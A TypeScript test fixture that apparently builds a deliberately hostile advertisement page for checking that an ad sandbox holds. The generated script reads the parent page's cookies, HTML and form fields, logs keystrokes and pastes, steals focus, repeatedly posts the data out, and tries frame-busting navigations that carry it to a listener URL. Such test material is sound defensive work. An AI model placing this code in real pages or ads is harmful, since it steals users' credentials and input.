import { ESCAPES, LEAVES_THE_PAGE } from './escapes.ts'

/** What an advertisement could try against the page around it, each as the body of an async function. */
const ATTACKS: Record<string, string> = {
  'the top’s address': `top.location = target`,
  'the parent’s address': `parent.location.replace(target)`,
  'the top’s fragment': `top.location.hash = 'taken'`,
  'a window named top': `window.open(target, '_top')`,
  'a link to the top': `const link = document.createElement('a'); link.href = target; link.target = '_top'; document.body.append(link); link.click()`,
  'a form to the top': `const form = document.createElement('form'); form.action = target; form.target = '_top'; document.body.append(form); form.submit()`,
  'the way back': `history.go(-1)`,
  'the end of the page': `top.close()`,
  'a message': `for (const data of ['reload', { type: 'values' }, { type: 'height' }]) parent.postMessage(data, '*')`,
  'a dialog': `alert('Your device is slow')`,
  'the clipboard': `stolen.push(await navigator.clipboard.readText())`,
  'the whole screen': `await document.documentElement.requestFullscreen()`,
}

/**
 * A page that takes whatever it can get: it reads the page around it, listens to keys and messages, and tells its own server all of
 * it several times a second. In the box "inline" it also attacks the page and tries every escape that keeps it alive; in the others
 * it takes the focus all the time, and tries the escapes that end it.
 */
export function hostileAd(size: string, listener: string): string {
  const entries = Object.entries(ESCAPES)
  const leaves = entries.filter(([name]) => LEAVES_THE_PAGE.includes(name))
  const stays = entries.filter(([name]) => !LEAVES_THE_PAGE.includes(name))
  const attempts = size === 'inline' ? [...Object.entries(ATTACKS), ...stays] : leaves
  const tries = attempts.map(([, attempt]) => `async (target) => { ${attempt} }`)
  return `<!doctype html><title>Ad</title><body><input id="field"><script>
    const stolen = []
    const read = {
      html: () => parent.document.documentElement.outerHTML, fields: () => top.document.forms[0].elements[0].value,
      address: () => top.location.href, cookies: () => parent.document.cookie, kept: () => parent.localStorage.length,
      own: () => localStorage.length, referrer: () => document.referrer, above: () => [...location.ancestorOrigins].join(),
      opener: () => opener, name: () => name + parent.name, beside: () => parent.frames[0].document.body.innerText,
      shared: () => new BroadcastChannel('x').name, databases: () => indexedDB.open('x'), frame: () => frameElement.src,
    }
    const loot = () => JSON.stringify(Object.entries(read).map(([what, get]) => {
      try { return what + '=' + get() } catch (error) { return what + '!' + error.name }
    })) 
    for (const kind of ['keydown', 'keypress', 'input', 'paste', 'message'])
      addEventListener(kind, (event) => {
        const got = event.key ?? event.data ?? event.clipboardData?.getData('text') ?? ''
        stolen.push(typeof got === 'string' ? got : JSON.stringify(got))
      }, true)
    if (${size !== 'inline'}) setInterval(() => { window.focus(); field.focus(); field.select() }, 20)
    setInterval(() => void fetch('/loot', { method: 'POST', mode: 'no-cors', body: loot() + '|' + stolen.join('') + field.value }), 150)
    setTimeout(() => {
      for (const attempt of [${tries.join(',\n')}])
        attempt('${listener}?' + encodeURIComponent(loot() + stolen.join(''))).catch(() => undefined)
    }, ${size === 'inline' ? 0 : 1500})
  </script>`
}
